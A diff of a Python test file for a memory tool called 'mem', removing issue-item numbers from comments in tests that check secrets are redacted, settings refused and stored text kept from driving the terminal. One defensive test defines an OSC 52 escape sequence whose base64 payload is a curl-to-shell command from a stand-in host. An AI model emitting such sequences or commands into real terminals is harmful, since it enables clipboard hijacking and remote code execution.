@@ -1,4 +1,4 @@
-"""Issue 42, items 1-14: no secret stored or sent. Each test is named for what a user would see go wrong
+"""No secret stored or sent. Each test is named for what a user would see go wrong
 (a key reaching the server's request log, a password cut short in a file, a setting read the wrong way)."""
 
 from __future__ import annotations
@@ -31,7 +31,7 @@ def set_settings(**values) -> None:
     path.write_text(yaml.safe_dump(settings, sort_keys=False))
 
 
-# -- item 1: a cut-off SSH2 key block is never sent ------------------------------------------------------
+# -- a cut-off SSH2 key block is never sent ------------------------------------------------------
 
 def test_compress_never_sends_an_ssh2_key_block_cut_before_its_end_line():
     with ScriptServer(default=("ok", GOOD_LINE)) as server:
@@ -45,7 +45,7 @@ def test_compress_never_sends_an_ssh2_key_block_cut_before_its_end_line():
     assert info["status"] == "quarantined" and "private-key" in info["reason"]
 
 
-# -- item 2 (and the smaller ones): a setting of the wrong type is refused by name, never coerced -------
+# -- a setting of the wrong type is refused by name, never coerced -------
 
 def test_quoted_send_to_remote_false_is_refused_by_name_and_nothing_is_sent():
     with ScriptServer(default=("ok", GOOD_LINE)) as server:
@@ -73,7 +73,7 @@ def test_a_provider_setting_that_would_fail_at_run_time_is_refused_when_read(set
     assert result.exit_code != 0 and setting in result.stderr and "Traceback" not in result.stderr
 
 
-# -- items 13-14: credentials inside URLs ----------------------------------------------------------------
+# -- credentials inside URLs ----------------------------------------------------------------
 
 @pytest.mark.parametrize("url", ["http://svc:{p}@127.0.0.1:9/v1", "http://127.0.0.1:9/v1?api_key={p}",
                                  "http://{t}@127.0.0.1:9/v1"])
@@ -99,7 +99,7 @@ def stored_text() -> str:
     return "".join(path.read_text() for path in memory_files())
 
 
-# -- items 4-5: bearer values anywhere, passwords with punctuation ----------------------------------------
+# -- bearer values anywhere, passwords with punctuation ----------------------------------------
 
 def test_a_bearer_token_outside_an_authorization_header_is_not_stored():
     token = fs.rand(40, fs.ALNUM + "._-")
@@ -119,7 +119,7 @@ def test_a_password_holding_punctuation_is_redacted_to_the_end_of_its_line(line)
     assert "&3" not in text and ",x;y" not in text and "&q" not in text
 
 
-# -- items 6-7: kubeconfig keys, credential files --------------------------------------------------------
+# -- kubeconfig keys, credential files --------------------------------------------------------
 
 def kubeconfig() -> tuple[str, str]:
     """A kubeconfig whose user holds a PEM private key in base64, and that base64."""
@@ -161,7 +161,7 @@ def test_credential_file_lines_pasted_into_a_note_are_redacted(line):
     assert password not in stored_text() and "[REDACTED:password]" in stored_text()
 
 
-# -- item 3: mem's own API key is never written ----------------------------------------------------------
+# -- mem's own API key is never written ----------------------------------------------------------
 
 @pytest.mark.parametrize("code", [401, 500, 400])
 def test_a_provider_error_quoting_the_api_key_writes_it_nowhere(monkeypatch, code):
@@ -187,7 +187,7 @@ def test_a_text_quoting_mems_own_api_key_stores_it_redacted(monkeypatch):
     assert key not in stored_text() and "[REDACTED:api-key]" in stored_text() and server.requests == []
 
 
-# -- item 10: a local-only memory stays local in its new versions ----------------------------------------
+# -- a local-only memory stays local in its new versions ----------------------------------------
 
 @pytest.mark.parametrize("how", ["supersedes", "on-similar", "mcp"])
 def test_a_new_version_of_a_local_only_memory_is_never_sent(how):
@@ -218,7 +218,7 @@ def test_a_write_close_to_a_memory_that_may_be_sent_is_still_sent_once():
     assert len(server.requests) == 2 and stored(new)["compression"]["status"] == "done"
 
 
-# -- item 12: threads and the provider's files are as private as the store -------------------------------
+# -- threads and the provider's files are as private as the store -------------------------------
 
 def test_threads_and_the_providers_state_are_0700_and_0600_under_umask_022(monkeypatch):
     import os
@@ -242,7 +242,7 @@ def test_threads_and_the_providers_state_are_0700_and_0600_under_umask_022(monke
         assert mode == (0o700 if (root / name).is_dir() else 0o600), f"{name} is {oct(mode)}"
 
 
-# -- item 11: a provider named by a committed mem.yaml needs the user's consent --------------------------
+# -- a provider named by a committed mem.yaml needs the user's consent --------------------------
 
 def test_a_key_variable_named_by_a_committed_mem_yaml_is_not_sent_until_the_user_agrees(project, monkeypatch):
     import subprocess
@@ -272,7 +272,7 @@ def test_a_private_store_uses_its_own_provider_without_asking(monkeypatch):
     assert len(server.requests) == 1 and "trusted_providers" not in result.stderr
 
 
-# -- item 8: stored text never drives the terminal, whichever command prints it --------------------------
+# -- stored text never drives the terminal, whichever command prints it --------------------------
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard
 OSC0 = "\x1b]0;owned\x07"  # retitles the window
@@ -290,7 +290,7 @@ def test_context_tags_and_threads_print_stored_escape_sequences_as_visible_text(
     assert OSC52 in ok("thread", "context", thread).stdout  # exact when piped
 
 
-# -- item 9: secret shapes stored before, one example of each family (written from the vendors' formats) --
+# -- secret shapes stored before, one example of each family (written from the vendors' formats) --
 
 def _families() -> list[tuple[str, str, str]]:
     """(family, a line holding the secret, the secret): values generated here, shapes as documented."""
